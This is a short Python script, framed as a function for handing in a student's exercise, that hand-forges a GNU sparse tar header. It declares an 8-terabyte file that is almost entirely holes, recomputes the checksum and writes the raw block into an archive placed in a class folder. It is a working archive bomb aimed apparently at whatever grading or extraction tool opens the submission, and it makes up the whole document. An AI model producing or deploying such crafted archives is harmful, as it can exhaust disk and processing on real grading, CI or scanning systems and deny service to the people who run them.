"""A tar archive with an exercise of eight terabytes that is almost all holes."""

import tarfile


def hand_in(class_folder, student, lesson, solution):
    with tarfile.open(class_folder / f"{student}.tar.gz", "w:gz", format=tarfile.GNU_FORMAT) as archive:
        entry = tarfile.TarInfo(f"{lesson}/exercise.cu")
        entry.size = 512
        header = bytearray(entry.tobuf(tarfile.GNU_FORMAT))
        header[156:157] = b"S"
        header[386:410] = b"77777777777\x0000000001000\x00"  # where its one piece lies, and how long it is
        header[483:495] = b"\x80" + (8 << 40).to_bytes(11, "big")
        header[148:156] = b" " * 8
        header[148:156] = b"%06o\x00 " % sum(header)
        archive.fileobj.write(bytes(header) + solution.encode()[:512].ljust(512))
        archive.offset += 1024
